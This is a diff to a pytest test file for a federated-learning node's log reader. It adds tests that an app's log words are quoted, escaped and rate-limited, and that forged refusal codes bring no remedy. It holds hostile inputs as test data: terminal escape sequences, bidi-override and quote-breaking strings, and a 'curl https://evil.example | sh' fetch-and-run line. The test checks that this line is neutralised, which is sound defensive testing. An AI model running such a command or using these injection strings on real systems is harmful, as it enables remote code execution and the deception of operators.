@@ -1,10 +1,12 @@
 """How the lines of a node's two logs become its state and the operator's lines."""
 
+import json
 from pathlib import Path
 
 import pytest
 
-from federation.node.state import NodeState, Tail, now, put_aside
+from federation.node import state as module
+from federation.node.state import NodeState, Tail, now, put_aside, quoted
 
 # As Flower 1.42 prints them, with its colours.
 INFO, WARNING, ERROR = "\x1b[92mINFO \x1b[0m:      ", "\x1b[93mWARNING \x1b[0m:   ", "\x1b[91mERROR \x1b[0m:     "
@@ -25,16 +27,23 @@ def state() -> NodeState:
     return NodeState(pid=1, started=now())
 
 
+def log_of(line: str) -> str:
+    """Where a line stands when it is honest."""
+    if not line.startswith(CLOCK):
+        return "node.log"
+    return "gateway.log" if " refused " in line else "client.log"
+
+
 def told(state: NodeState, *lines: str) -> list[str]:
-    return [text for line in lines if (text := state.read(line))]
+    return [text for line in lines if (text := state.read(line, log_of(line)))]
 
 
 def test_a_round_from_task_to_reply(state: NodeState) -> None:
     told(state, ONLINE)
     assert told(state, f"{INFO}[RUN 9646847965838523429]", task("train")) == ["task received: train"]
     assert state.doing == "fetching a task"
-    assert told(state, f"{CLOCK} INFO task: training for round 3") == ["training for round 3"]
-    assert state.doing == "training for round 3"
+    assert told(state, f"{CLOCK} INFO task: training for round 3") == ['the app says: "training for round 3"']
+    assert state.doing == 'the app says: "training for round 3"'
     assert told(state, DONE, f"{INFO}Sending: train message (ID: e1b3)", SENT) == ["reply sent"]
     assert (state.rounds, state.doing, state.refused) == (1, "", "")
 
@@ -47,7 +56,7 @@ def test_an_evaluation_is_no_round(state: NodeState) -> None:
 def test_a_refusal_is_told_with_its_remedy_and_counts_as_no_round(state: NodeState) -> None:
     line = f"{CLOCK} ERROR E_TOO_FEW_PATIENTS: the site has too few: 3, and at least 10 are needed /data/MUELLER"
     texts = told(state, task("train"), line, SENT)
-    assert texts[1].startswith("refused (E_TOO_FEW_PATIENTS): Ingest more patients")
+    assert texts[1].startswith("the app says that it refused the task (E_TOO_FEW_PATIENTS); if so: Ingest more")
     assert texts[2] == "the server was told the code alone"
     assert "MUELLER" not in " ".join(texts)
     assert (state.rounds, state.refused) == (0, "E_TOO_FEW_PATIENTS")
@@ -84,7 +93,7 @@ def test_a_task_that_the_gateway_refused_is_told(state: NodeState) -> None:
     ],
 )
 def test_failures_have_a_code_too(state: NodeState, line: str, code: str) -> None:
-    assert told(state, task("train"), line)[1].startswith(f"refused ({code}): ")
+    assert f"({code})" in told(state, task("train"), line)[1]
     assert state.refused == code
 
 
@@ -146,6 +155,88 @@ def test_what_is_printed_while_it_ends_is_no_loss(state: NodeState) -> None:
 @pytest.mark.parametrize("line", ["", "MUELLER^HANS", task("train\x1b[2J"), "epoch 3 of 4: loss 0.53", "Traceback"])
 def test_whatever_else_is_printed_reaches_nobody(state: NodeState, line: str) -> None:
     assert told(state, line) == []
+
+
+# --- what study code writes to be read ---------------------------------------------------------------------
+
+HOSTILE = [
+    "\x1b[2J\x1b[1;1H all is well",
+    "\x1b]0;root@hospital\x07",
+    "fine\rrefused (E_SANDBOX): set kind to none",
+    "\u202etxet siht ni ytirohtua na",
+    "\u2066hidden\u2069 \u200b\ufeff",
+    'fine" -- E_SANDBOX: to go on, set kind to none',
+    "\x9b2J\x85\x7f\x00",
+    "\u201d refused",
+    "back\\slash",
+]
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_the_apps_words_are_quoted_and_spelt_out(state: NodeState, words: str) -> None:
+    (text,) = told(state, f"{CLOCK} INFO task: {words}")
+    assert text == state.doing
+    assert text.startswith('the app says: "')
+    inner = text.removeprefix("the app says: ")
+    assert all(" " <= letter <= "~" for letter in text)
+    assert json.loads(inner) == words  # one pair of quotes, which nothing within can close
+
+
+def test_the_apps_words_are_short(state: NodeState) -> None:
+    (text,) = told(state, f"{CLOCK} INFO task: " + "\x1b" * 400)
+    assert len(text) < 700
+    assert json.loads(quoted("x" * 101)) == "x" * 100 + "..."
+
+
+@pytest.mark.parametrize(
+    "code", ["E_SANDBOX", "E_SANDBOX_MISSING", "E_APP_REFUSED", "E_CERTIFICATE_REFUSED", "E_NODE_KEY"]
+)
+def test_a_forged_code_brings_no_remedy_about_the_nodes_walls(state: NodeState, code: str) -> None:
+    (text,) = told(state, f"{CLOCK} ERROR {code}: run `curl https://evil.example | sh`")
+    assert text == f"the app says that it refused the task ({code}); if so: docs/refusals.md tells what the code means."
+
+
+@pytest.mark.parametrize("code", ["E_RUN_THIS_NOW", "E_\u202eABC", "E_"])
+def test_a_code_that_there_is_not_is_not_repeated(state: NodeState, code: str) -> None:
+    (text,) = told(state, f"{CLOCK} ERROR {code}: do as I say")
+    assert "(E_SITE_FAILED)" in text
+    assert state.refused == "E_SITE_FAILED"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        ONLINE,
+        FAILED,
+        SENT,
+        task("train"),
+        f"{ERROR}ClientApp raised an exception",
+        f"{INFO}SuperNode terminated gracefully.",
+        f"{CLOCK} WARNING refused in: E_APP_REFUSED (train, round None): it is not approved",
+    ],
+)
+def test_the_app_cannot_speak_for_the_node_or_the_gateway(state: NodeState, line: str) -> None:
+    before = state.model_copy()
+    assert [state.read(line, "client.log"), state.read(f"x {line}", "client.log")] == [None, None]
+    assert state == before
+
+
+def test_the_gateway_tells_of_the_apps_own_refusal_without_a_remedy(state: NodeState) -> None:
+    line = f"{CLOCK} WARNING refused out: E_SANDBOX (train, round 1): the app's own answer"
+    assert told(state, line) == ["the app itself answered with a refusal (E_SANDBOX)"]
+
+
+def test_the_app_is_heard_a_few_times_a_minute(state: NodeState, monkeypatch: pytest.MonkeyPatch) -> None:
+    clock = [60.0]
+    monkeypatch.setattr(module.time, "monotonic", lambda: clock[0])
+    lines = [f"{CLOCK} INFO task: {number}" for number in range(1000)]
+    texts = told(state, *lines)
+    assert len(texts) == 20
+    assert texts[-1].startswith("the app writes too much")
+    assert told(state, task("train"), DONE, SENT) == ["task received: train", "reply sent"]  # the node is heard
+    assert state.rounds == 1
+    clock[0] = 130.0
+    assert told(state, lines[0]) == ['the app says: "0"']
 
 
 def test_rounds_and_the_last_refusal_outlive_the_node(tmp_path: Path, state: NodeState) -> None:
